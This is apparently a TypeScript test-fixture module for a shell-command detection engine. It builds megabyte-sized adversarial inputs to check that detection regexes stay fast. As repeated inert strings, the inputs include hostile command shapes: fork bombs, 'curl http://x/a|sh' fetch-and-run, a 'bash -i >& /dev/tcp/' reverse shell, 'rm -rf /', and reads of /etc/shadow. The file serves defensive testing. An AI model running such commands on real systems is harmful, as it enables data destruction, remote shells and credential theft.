/**
 * Hostile inputs for the "no rule can take super-linear time" guarantee (issue 14,
 * finding 2): long runs of the characters each rule's regexes loop on, deep
 * `$(` nesting, many pipes, long arguments, an auditd EXECVE with a 60 KB
 * argument, up to 1 MiB. Shared by rules/adversarial.test.ts (a generous bound
 * per event) and bench/rules.ts (the worst time per event as a figure).
 */
import { commandEvent } from './events';
import type { Condition, RuleDef, StrMatch } from './types';
import type { Doc } from './condition';

export interface HostileEvent {
  readonly name: string;
  readonly event: Doc;
  /** The rule whose regex the input was pumped from (undefined: aimed at every rule). */
  readonly rule?: string;
}

const MiB = 1 << 20;

function fill(unit: string, size: number): string {
  return unit.repeat(Math.max(1, Math.floor(size / unit.length)));
}

function execve(name: string, argv: readonly string[]): HostileEvent {
  return {
    name,
    event: {
      '@timestamp': '2026-11-22T10:00:00.000Z',
      event: { kind: 'event', category: ['process'], type: ['start'], dataset: 'auditkit.auditd', id: `adv-${name}` },
      host: { name: 'web01' },
      user: { name: 'root' },
      process: { executable: `/usr/bin/${argv[0] ?? 'x'}`, name: argv[0], args: argv, command_line: argv.join(' ') },
      auditd: { message_type: 'execve' },
    },
  };
}

/** Inputs that do not depend on the rules, each about `size` characters. */
export function genericHostileEvents(size = MiB): HostileEvent[] {
  const lines: Array<[string, string]> = [
    ['fork-bomb prefix + letters (finding 2)', 'f() ' + fill('a', size)],
    ['for for for …', fill('for ', size)],
    ['for … do without done', 'for ' + fill('x', size) + ' do'],
    ['a|a|a … (many pipes)', fill('a|', size)],
    ['a && a; … (many lists)', fill('a && b; ', size)],
    ['echo $($($(… (deep nesting)', 'echo ' + fill('$(', size)],
    ['echo $(a $(a … ) ) balanced', 'echo ' + fill('$(a ', size / 2) + fill(')', size / 4)],
    ['"$("$("$( … in quotes', 'echo ' + fill('"$(', size)],
    ['backticks', 'echo ' + fill('`a`', size)],
    ['<(<(<( … process substitutions', 'diff ' + fill('<(', size)],
    ['long argument', 'echo ' + fill('A', size)],
    ['long single-quoted word', "cat '" + fill('/etc/', size) + "'"],
    ['spaces', 'x' + fill(' ', size) + 'y'],
    ['slashes', 'rm -rf ' + fill('/', size)],
    ['sh -ccc…!', 'sh -' + fill('c', size) + '!'],
    ['dashes', 'chmod ' + fill('-', size)],
    ['parens', fill('(', size / 2) + fill(')', size / 2)],
    ['quotes', fill('"\'', size)],
    ['backslashes', fill('\\', size)],
    ['fork-bomb shapes', fill('a(){ a|a& };', size)],
    ['curl | sh many times', fill('curl http://x/a|sh;', size)],
    ['/dev/tcp/ runs', 'bash -i >& ' + fill('/dev/tcp/', size)],
    ['assignments', fill('A=1 ', size) + 'x'],
    ['redirections', 'x ' + fill('>a ', size)],
    ['sudo sudo sudo …', fill('sudo ', size) + 'id'],
    ['sh -c sh -c …', fill("sh -c '", size)],
    ['newlines', fill('a\n', size)],
    ['non-ASCII', fill('é€😀', size)],
    // Globs are matched against the lexer's fixed list of sensitive paths (schema/shell.ts GLOB_TARGETS).
    ['globs of stars', fill('cat /etc/*a*a*a*a*a*a*a*a*a*a*a*a*b ', size)],
    ['globs of open classes', fill('cat /etc/s[[[[[[[[!a-z]*[ ', size)],
    ['// and /../ runs', 'cat ' + fill('//../.', size)],
    ['brace groups', 'cat ' + fill('/{a,b}{c,{d,e}}', size)],
    ['braced commands', fill('{cat,/etc/{shadow,x}};', size)],
    ['container exec chains', fill('kubectl exec p -- docker exec c ', size) + 'id'],
  ];
  const out: HostileEvent[] = lines.map(([name, line]) => ({ name, event: commandEvent(line) }));
  out.push(execve('auditd EXECVE, one 60 KB argument', ['/bin/sh', '-c', 'f() ' + fill('a', 60_000)]));
  out.push(execve('auditd EXECVE, one 1 MiB argument', ['cat', fill('/etc/', size)]));
  out.push(execve('auditd EXECVE, 100k arguments', ['rm', ...Array<string>(100_000).fill('-rf')]));
  return out;
}

function strMatchRegexes(m: StrMatch | undefined, out: string[]): void {
  if (!m || m.regex === undefined) return;
  for (const r of Array.isArray(m.regex) ? (m.regex as readonly string[]) : [m.regex as string]) out.push(r);
}

/** Regexes and command names of a condition (to aim a pump at the rule). */
function walk(c: Condition, res: string[], names: string[]): void {
  if ('all' in c) c.all.forEach((x) => walk(x, res, names));
  else if ('any' in c) c.any.forEach((x) => walk(x, res, names));
  else if ('not' in c) walk(c.not, res, names);
  else if ('cmd' in c) {
    const s = c.cmd;
    if (s.name !== undefined) names.push(...(Array.isArray(s.name) ? (s.name as readonly string[]) : [s.name as string]));
    if (s.name_regex !== undefined) res.push(s.name_regex);
    for (const m of [s.argv0, s.text, s.args_any, s.args_none, s.words_any, s.words_none, s.writes, s.reads, s.assigns, s.option?.value, ...(s.args_all ?? [])]) strMatchRegexes(m, res);
  } else if ('keywords' in c) return;
  else if (c.regex !== undefined) for (const r of Array.isArray(c.regex) ? (c.regex as readonly string[]) : [c.regex as string]) res.push(r);
}

/**
 * The characters a regex loops on, roughly: the pattern with its syntax removed
 * (`([\w:.]+)\s*\(\)` → `w:.s()`). Repeated, as a bare line, as the arguments
 * of a command the rule names, and as one quoted word.
 */
export function pumpOf(src: string): string {
  const p = src.replace(/\\([dwsbDWSB])/g, (_, k: string) => ({ d: '1', w: 'a', s: ' ', b: ' ', D: '-', W: '/', S: 'x', B: 'x' })[k] ?? 'a').replace(/[\\^$|?*+{}[\]]/g, '');
  return p === '' ? 'a' : p;
}

export function ruleHostileEvents(rules: readonly RuleDef[], size = 32 * 1024): HostileEvent[] {
  const seen = new Set<string>();
  const out: HostileEvent[] = [];
  for (const r of rules) {
    const res: string[] = [];
    const names: string[] = [];
    if (r.condition) walk(r.condition, res, names);
    const name = names[0] ?? 'x';
    for (const re of res) {
      const pump = fill(pumpOf(re), size);
      for (const [k, line] of [
        ['line', pump],
        ['args', `${name} ${pump}`],
        ['word', `${name} '${pump.replace(/'/g, '')}'`],
      ] as const) {
        if (seen.has(line)) continue;
        seen.add(line);
        out.push({ name: `${r.id} /${re.length > 40 ? re.slice(0, 40) + '…' : re}/ as ${k}`, event: commandEvent(line), rule: r.id });
      }
    }
  }
  return out;
}
